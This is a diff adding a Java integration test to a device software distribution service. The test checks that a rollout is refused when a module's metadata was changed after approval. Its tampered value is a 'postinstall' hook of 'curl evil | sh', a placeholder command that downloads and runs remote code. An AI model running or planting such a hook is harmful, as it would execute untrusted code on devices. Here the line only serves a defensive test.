@@ -18,6 +18,8 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.tuple;
 import static org.awaitility.Awaitility.await;
 
+import io.headgate.contracts.distribution.DistributionMessage.ModuleMetadata;
+import io.headgate.contracts.distribution.DistributionCommand.SetModuleMetadata;
 import io.headgate.contracts.Refusal;
 import io.headgate.contracts.Topic;
 import io.headgate.contracts.TriggeredBy;
@@ -392,6 +394,18 @@ class DistributionServiceIT {
 
         assertThat(refused(rollout).code()).isEqualTo("distribution-set.changed");
         assertThat(send(register(module, "newer.bin")).refusal()).isNull();
+    }
+
+    /** Approved is not enough: what devices would be told beside the files must be what was approved. */
+    @Test
+    void aSetWhoseWordsToDevicesChangedSinceItWasWrittenDownIsNotRolledOut() {
+        var set = completeSet();
+        var module = set.modules().getFirst().moduleId();
+        send(new SetModuleMetadata(module, Map.of("postinstall", new ModuleMetadata("curl evil | sh", true))));
+        var rollout = rollout();
+        arrive(Arrival.STARTED_FIRST, rollout, definition(set, Groups.equal(1)), ids(3), null);
+
+        assertThat(refused(rollout).code()).isEqualTo("distribution-set.changed");
     }
 
     @Test
